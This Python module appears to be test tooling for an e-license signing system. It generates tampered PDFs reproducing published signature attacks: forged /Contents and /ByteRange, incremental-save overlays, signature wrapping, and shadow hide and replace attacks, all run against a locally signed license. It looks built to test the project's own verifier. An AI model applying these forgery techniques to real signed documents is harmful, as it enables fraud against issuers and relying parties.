"""Build attack files from a genuine signed license.

Each function takes the bytes of a genuine license and returns a tampered
document reproducing one published attack class on PDF signatures
(Mladenov et al., "1 Trillion Dollar Refund", CCS 2019; Mainka et al.,
"Shadow Attacks", NDSS 2021).
"""

from __future__ import annotations

import datetime as dt
import io
import re
from dataclasses import dataclass
from pathlib import Path

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.layout import BoxConstraints

BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
CONTENTS = re.compile(rb"/Contents\s*<([0-9A-Fa-f]*)>")
WHITE_BOX = b"q 1 1 1 rg 0 0 700 900 re f Q"
FORGED_TEXT = b"BT /F1 28 Tf 80 500 Td (FORGED) Tj ET"


def _same_length(original: bytes, replacement: bytes) -> bytes:
    assert len(replacement) <= len(original), "replacement longer than original"
    return replacement + b" " * (len(original) - len(replacement))


def _replace_once(data: bytes, pattern: re.Pattern[bytes], build) -> bytes:
    match = pattern.search(data)
    assert match, f"pattern {pattern.pattern!r} not found"
    old = match.group(0)
    return data[: match.start()] + _same_length(old, build(match)) + data[match.end() :]


# Universal signature forgery: the signature dictionary is manipulated.


def usf_contents_missing(data: bytes) -> bytes:
    return _replace_once(data, CONTENTS, lambda m: b"/Foo <" + m.group(1)[:8] + b">")


def usf_contents_empty(data: bytes) -> bytes:
    return _replace_once(data, CONTENTS, lambda m: b"/Contents <>")


def usf_contents_zeroed(data: bytes) -> bytes:
    return _replace_once(
        data, CONTENTS, lambda m: b"/Contents <" + b"0" * len(m.group(1)) + b">"
    )


def usf_contents_null(data: bytes) -> bytes:
    return _replace_once(data, CONTENTS, lambda m: b"/Contents null")


def usf_byte_range_missing(data: bytes) -> bytes:
    return _replace_once(data, BYTE_RANGE, lambda m: b"/FooRange [0 0 0 0]")


def usf_byte_range_empty(data: bytes) -> bytes:
    return _replace_once(data, BYTE_RANGE, lambda m: b"/ByteRange []")


def usf_byte_range_null(data: bytes) -> bytes:
    return _replace_once(data, BYTE_RANGE, lambda m: b"/ByteRange null")


def usf_byte_range_overlapping(data: bytes) -> bytes:
    def build(m: re.Match[bytes]) -> bytes:
        start, length, second, rest = (int(g) for g in m.groups())
        return b"/ByteRange [%d %d %d %d]" % (start, length + 100, second - 100, rest)

    return _replace_once(data, BYTE_RANGE, build)


def usf_byte_range_gap(data: bytes) -> bytes:
    def build(m: re.Match[bytes]) -> bytes:
        start, length, second, rest = (int(g) for g in m.groups())
        return b"/ByteRange [%d %d %d %d]" % (start, length - 200, second, rest)

    return _replace_once(data, BYTE_RANGE, build)


def usf_byte_range_past_end(data: bytes) -> bytes:
    def build(m: re.Match[bytes]) -> bytes:
        start, length, second, rest = (int(g) for g in m.groups())
        return b"/ByteRange [%d %d %d %d]" % (start, length, second, rest + 5000)

    return _replace_once(data, BYTE_RANGE, build)


# Incremental saving: a later revision changes what the page shows.


def _append_revision(data: bytes, change) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def isa_page_content_with_xref(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        stream = generic.StreamObject(stream_data=WHITE_BOX + b"\n" + FORGED_TEXT)
        writer.add_stream_to_page(0, writer.add_object(stream))

    return _append_revision(data, change)


def isa_page_content_without_xref(data: bytes) -> bytes:
    """Append a new content stream object and page override with no xref."""
    size = int(re.findall(rb"/Size\s+(\d+)", data)[-1])
    stream = WHITE_BOX + b"\n" + FORGED_TEXT
    appended = (
        b"\n%d 0 obj\n<< /Length %d >>\nstream\n" % (size, len(stream))
        + stream
        + b"\nendstream\nendobj\n"
    )
    return data + appended + b"%%EOF\n"


# Signature wrapping: objects in the signature value's space or after the
# signed range, with a new trailer pointing at them.


def swa_objects_in_contents(data: bytes) -> bytes:
    match = CONTENTS.search(data)
    assert match
    hex_start = match.start(1)
    hex_value = match.group(1)
    payload = b"> 9999 0 obj << /Type /Catalog >> endobj <"
    # Overwrite the zero padding at the end of the signature value.
    position = hex_start + len(hex_value) - len(payload) - 2
    tampered = data[:position] + payload + data[position + len(payload) :]
    trailer = (
        b"\nxref\n9999 1\n%010d 00000 n \ntrailer\n<< /Size 10000 /Root 9999 0 R >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (position + 2, len(tampered) + 1)
    )
    return tampered + trailer


def swa_objects_after_signed_range(data: bytes) -> bytes:
    size = int(re.findall(rb"/Size\s+(\d+)", data)[-1])
    body = b"\n%d 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\n" % size
    offset = len(data) + 1
    xref_at = len(data) + len(body)
    xref = (
        b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d 0 R >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (size, offset, size + 1, size, xref_at)
    )
    return data + body + xref


# Overlays: an appended revision adds an annotation over the page. The
# shadow attacks, which need objects prepared before signing, are at the end.


def overlay_annotation(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        appearance = RawContent(WHITE_BOX + b"\n", box=BoxConstraints(700, 900))
        ap_ref = writer.add_object(appearance.as_form_xobject())
        annotation = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/Square"),
                generic.NameObject("/Rect"): generic.ArrayObject(
                    [generic.FloatObject(v) for v in (0, 0, 700, 900)]
                ),
                generic.NameObject("/AP"): generic.DictionaryObject(
                    {generic.NameObject("/N"): ap_ref}
                ),
            }
        )
        _add_annotation(writer, annotation)

    return _append_revision(data, change)


def overlay_signature_widget(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        appearance = RawContent(WHITE_BOX + b"\n", box=BoxConstraints(700, 900))
        ap_ref = writer.add_object(appearance.as_form_xobject())
        widget = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
                generic.NameObject("/FT"): generic.NameObject("/Sig"),
                generic.NameObject("/T"): generic.TextStringObject("Overlay"),
                generic.NameObject("/Rect"): generic.ArrayObject(
                    [generic.FloatObject(v) for v in (0, 0, 700, 900)]
                ),
                generic.NameObject("/AP"): generic.DictionaryObject(
                    {generic.NameObject("/N"): ap_ref}
                ),
            }
        )
        widget_ref = _add_annotation(writer, widget)
        acroform = writer.root["/AcroForm"]
        acroform["/Fields"].append(widget_ref)
        writer.update_container(acroform)

    return _append_revision(data, change)


def _add_annotation(writer: IncrementalPdfFileWriter, annotation) -> generic.Reference:
    page_ref = writer.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    annotation["/P"] = page_ref
    reference = writer.add_object(annotation)
    annotations = page.get("/Annots")
    if annotations is None:
        page["/Annots"] = generic.ArrayObject([reference])
    else:
        annotations = annotations.get_object()
        annotations.append(reference)
        if isinstance(page.raw_get("/Annots"), generic.IndirectObject):
            writer.update_container(annotations)
    writer.update_container(page)
    return reference


ALL_SIMPLE_ATTACKS = {
    "usf_contents_missing": usf_contents_missing,
    "usf_contents_empty": usf_contents_empty,
    "usf_contents_zeroed": usf_contents_zeroed,
    "usf_contents_null": usf_contents_null,
    "usf_byte_range_missing": usf_byte_range_missing,
    "usf_byte_range_empty": usf_byte_range_empty,
    "usf_byte_range_null": usf_byte_range_null,
    "usf_byte_range_overlapping": usf_byte_range_overlapping,
    "usf_byte_range_gap": usf_byte_range_gap,
    "usf_byte_range_past_end": usf_byte_range_past_end,
    "isa_page_content_with_xref": isa_page_content_with_xref,
    "isa_page_content_without_xref": isa_page_content_without_xref,
    "swa_objects_in_contents": swa_objects_in_contents,
    "swa_objects_after_signed_range": swa_objects_after_signed_range,
    "overlay_annotation": overlay_annotation,
    "overlay_signature_widget": overlay_signature_widget,
}


# Shadow attacks (Mainka et al., NDSS 2021): the attacker prepares content
# before the bureau signs, as objects that no page shows yet. After signing,
# a revision that only re-points existing objects reveals them. The helpers
# below render a license, add the shadow objects, have the data dir's seal
# sign the result, and build each malicious revision.


@dataclass(frozen=True)
class ShadowObjects:
    """References of the objects prepared before signing."""

    cover: generic.IndirectObject
    forged: generic.IndirectObject
    forged_page: generic.IndirectObject


def render_with_seal(data_dir: Path, record: dict) -> tuple[bytes, object]:
    """Render ``record`` and return the PDF and a signer of the data dir's seal."""
    from common.authority import AuthorityRegistry
    from esign.pki import DevPki
    from esign.seal_artwork import VectorSeal
    from esign.signing import LicenseSigner, SignatureLevel
    from templates import FaceContext, load_catalogue, render_license

    passphrase = (data_dir / "secrets" / "key-passphrase").read_text().strip().encode()
    pki = DevPki(data_dir, passphrase, "http://127.0.0.1:8765")
    authority = AuthorityRegistry.load().get(record["authority_code"])
    template = load_catalogue().get(record["license_type"])
    normalised = template.validate(record)
    face = FaceContext(
        elicense_id="1.2.156.3005.2.SHADOW.001.X",
        version=1,
        qr_text="HTTP://127.0.0.1:8765/V/SHADOW",
        authority_name=authority.name,
        authority_code=authority.code,
        authority_region=authority.region_code,
        issued_on=normalised.get("issued_on") or dt.date.today(),
        seal=VectorSeal(authority.name, None, "证照专用章", authority.code),
    )
    rendered = render_license(template, normalised, face)
    signer = LicenseSigner(
        pki.load_seal(authority.code),
        level=SignatureLevel.B_LT,
        timestamper=pki.load_timestamper(),
        validation_data=pki.validation_data,
    )
    return rendered.pdf, signer


def add_shadow_objects(pdf: bytes) -> tuple[bytes, ShadowObjects]:
    """Append unreferenced cover, forged content and forged page objects."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    cover = writer.add_object(generic.StreamObject(stream_data=WHITE_BOX))
    forged = writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT))
    page_ref = writer.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    forged_page = writer.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Page"),
                generic.NameObject("/Parent"): writer.root.raw_get("/Pages"),
                generic.NameObject("/MediaBox"): page["/MediaBox"],
                generic.NameObject("/Resources"): page.raw_get("/Resources"),
                generic.NameObject("/Contents"): generic.ArrayObject([cover, forged]),
            }
        )
    )
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue(), ShadowObjects(cover, forged, forged_page)


def _repoint(signed: bytes, change) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _page(writer: IncrementalPdfFileWriter):
    page_ref = writer.root["/Pages"]["/Kids"][0]
    return page_ref.get_object()


def reveal_hide(signed: bytes, shadow: ShadowObjects) -> bytes:
    """Hide: the page also draws the prepared white cover over its content."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        contents = page.raw_get("/Contents")
        page["/Contents"] = generic.ArrayObject([contents, _ref(writer, shadow.cover)])
        writer.update_container(page)

    return _repoint(signed, change)


def reveal_replace(signed: bytes, shadow: ShadowObjects) -> bytes:
    """Replace: the page's contents point at the prepared forged stream."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        page["/Contents"] = _ref(writer, shadow.forged)
        writer.update_container(page)

    return _repoint(signed, change)


def reveal_hide_and_replace(signed: bytes, shadow: ShadowObjects) -> bytes:
    """Hide-and-replace: the page tree points at the prepared forged page."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        pages = writer.root["/Pages"]
        pages["/Kids"] = generic.ArrayObject([_ref(writer, shadow.forged_page)])
        writer.update_container(pages)

    return _repoint(signed, change)


def _ref(writer: IncrementalPdfFileWriter, old: generic.IndirectObject):
    return generic.IndirectObject(old.idnum, old.generation, writer)


SHADOW_ATTACKS = {
    "shadow_hide": reveal_hide,
    "shadow_replace": reveal_replace,
    "shadow_hide_and_replace": reveal_hide_and_replace,
}


def prepare_signed_shadow(data_dir: Path, record: dict) -> tuple[bytes, ShadowObjects]:
    """Render, add the shadow objects, and sign with the data dir's seal."""
    pdf, signer = render_with_seal(data_dir, record)
    prepared, shadow = add_shadow_objects(pdf)
    return signer.sign(prepared), shadow
